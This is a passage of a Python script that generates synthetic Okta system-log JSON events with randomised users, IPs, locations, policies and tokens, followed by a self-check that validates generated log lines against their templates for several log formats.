                "lon": f"{lo + rng.uniform(-0.05, 0.05):.4f}", "ip": ip, "asn": str(asn), "asorg": org_, "isp": isp,
                "domain": dom, "ua": ua, "os": os_, "browser": br,
                "device": "Mobile" if os_ == "iOS" else "Computer"}

    def app():
        i, n, k = p_app()
        return {"appid": i, "appname": n, "appkey": k}

    def reqid():
        return alnum(rng, 11) + "@" + alnum(rng, 4) + "AAA" + alnum(rng, 4)

    gens = {k: person for k in ("aid", "aemail", "aname")}
    gens.update({k: geo for k in ("city", "state", "country", "postal", "lat", "lon", "ip", "asn", "asorg", "isp", "domain", "ua",
                                  "os", "browser", "device")})
    gens.update({k: app for k in ("appid", "appname", "appkey")})
    gens.update({
        "sess": lambda: "102" + alnum(rng, 22) if rng.random() < 0.8 else "trs" + alnum(rng, 22),
        "step": lambda: "0", "reqid": reqid, "uuid": lambda: uuid4(rng), "proxy": lambda: rng.choice(["false"] * 9 + ["true"]),
        "published": lambda: ctx.t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{ctx.t.microsecond // 1000:03d}Z",
        "ttype": lambda: "WEB", "tid": lambda: f"00u{alnum(rng, 17)}",
        "gid": lambda: p_group()[0], "gname": lambda: p_group()[1],
        "fid": lambda: f"opf{alnum(rng, 17)}", "polid": lambda: f"00p{alnum(rng, 17)}",
        "polname": lambda: rng.choice(["Default Policy", "Catch-all Rule", "Require MFA off-network", "Admin MFA every time"]),
        "tokid": lambda: f"00T{alnum(rng, 17)}", "tokname": lambda: rng.choice(["terraform", "scim-sync", "siem-export", "okta-cli"]),
        "temail": lambda: person()["aemail"], "tname": lambda: person()["aname"],
    })

    def tgt(kind):
        if kind == "user":
            return [{"id": "@s:tid", "type": "User", "alternateId": "@s:temail", "displayName": "@s:tname", "detailEntry": None}]
        if kind == "app":
            return [{"id": "@s:appid", "type": "AppInstance", "alternateId": "@s:appname", "displayName": "@s:appname", "detailEntry": {"signOnModeType": "SAML_2_0"}}]
        if kind == "group":
            return [{"id": "@s:gid", "type": "UserGroup", "alternateId": "unknown", "displayName": "@s:gname", "detailEntry": None}]
        if kind == "factor":
            return [{"id": "@s:fid", "type": "AuthenticatorEnrollment", "alternateId": "unknown", "displayName": "Okta Verify", "detailEntry": {"methodTypeUsed": "Get a push notification"}}]
        if kind == "policy":
            return [{"id": "@s:polid", "type": "PolicyEntity", "alternateId": "unknown", "displayName": "@s:polname", "detailEntry": {"policyType": "OktaSignOn"}}]
        if kind == "token":
            return [{"id": "@s:tokid", "type": "Token", "alternateId": "unknown", "displayName": "@s:tokname", "detailEntry": None}]
        return None

    geo_obj = {"city": "@s:city", "state": "@s:state", "country": "@s:country", "postalCode": "@s:postal",
               "geolocation": {"lat": "@r:lat", "lon": "@r:lon"}}
    specs, kinds = {}, []
    for n, (et, dm, legacy, res, reason, sev, target, uri) in enumerate(OKTA_EVENTS):
        obj = {
            "actor": {"id": "@s:aid", "type": "User", "alternateId": "@s:aemail", "displayName": "@s:aname", "detailEntry": None},
            "client": {"userAgent": {"rawUserAgent": "@s:ua", "os": "@s:os", "browser": "@s:browser"}, "zone": "null",
                       "device": "@s:device", "id": None, "ipAddress": "@s:ip", "geographicalContext": geo_obj},
            "device": None,
            "authenticationContext": {"authenticationProvider": None, "credentialProvider": None, "credentialType": None,
                                      "issuer": None, "interface": None, "authenticationStep": "@r:step", "externalSessionId": "@s:sess"},
            "displayMessage": dm, "eventType": et,
            "outcome": {"result": res, "reason": "@s:reason" if reason else None},
            "published": "@s:published",
            "securityContext": {"asNumber": "@r:asn", "asOrg": "@s:asorg", "isp": "@s:isp", "domain": "@s:domain", "isProxy": "@r:proxy"},
            "severity": sev,
            "debugContext": {"debugData": {"requestId": "@s:reqid", "requestUri": "@s:uri", "url": "@s:url"}},
            "legacyEventType": legacy,
            "transaction": {"type": "@s:ttype", "id": "@s:reqid", "detail": {}},
            "uuid": "@s:uuid", "version": "0",
            "request": {"ipChain": [{"ip": "@s:ip", "geographicalContext": geo_obj, "version": "V4", "source": None}]},
            "target": tgt(target),
        }
        name = f"{et}:{res}"
        specs[name] = (sev, _jspec(obj))

        def k(name=name, res=res, uri=uri):
            u = uri.replace("{app}", rng.choice(["salesforce", "slack", "zoomus", "githubcloud", "0oa" + alnum(rng, 17)])) \
                .replace("{gid}", "00g" + alnum(rng, 17)).replace("{uid}", "00u" + alnum(rng, 17)).replace("{fid}", "opf" + alnum(rng, 17))
            url = u + rng.choice(["?", "?", f"?client_id=0oa{alnum(rng, 17)}&response_type=code&scope=openid+profile"]) if "oauth2" in u else u + "?"
            return [(name, {"uri": u, "url": url, "reason": rng.choice(reasons[res])})]
        kinds.append(k)
    return run(ctx, specs, kinds, gens, s=1.1)


# ------------------------------------------------------------------------------------------
# self check
# ------------------------------------------------------------------------------------------

def _self_check() -> None:
    for name, make in FORMATS:
        samples, ntempl, nbad = [], 0, 0
        for seed in range(5):
            rows = make(random.Random(seed))
            assert len(rows) == N_ROWS, (name, len(rows))
            tl: dict[str, set] = {}
            for r in rows:
                assert set(r) == {"line", "template", "level"}, r
                assert r["level"] in LEVELS, r
                assert "\n" not in r["line"] and "\r" not in r["line"], r
                rx = "".join(".+?" if p == "<*>" else re.escape(p)
                             for p in re.split(r"(<\*>)", r["template"]))
                assert re.fullmatch(rx, r["line"], re.S), (name, r)
                tl.setdefault(r["template"], set()).add(r["level"])
            if seed == 0:
                assert rows == make(random.Random(0)), name
                ntempl = len(tl)
                nbad = sum(1 for lv in tl.values() if lv & {"WARN", "ERROR", "FATAL"})
                samples = random.Random(7).sample(rows, 3)
        print(f"{name}: {ntempl} templates, {nbad} WARN/ERROR/FATAL templates")
        for r in samples:
            print("    ", r["level"], "|", r["line"][:200])


FORMATS: list[tuple[str, Callable[[random.Random], list[dict[str, str]]]]] = [
    ("make_gcc", make_make_gcc),
    ("cargo_build", make_cargo_build),
    ("bazel_build", make_bazel_build),
    ("mysql_slow_log", make_mysql_slow_log),
    ("sysmon_text", make_sysmon_text),
    ("okta_syslog_json", make_okta_syslog_json),
]

if __name__ == "__main__":
    _self_check()
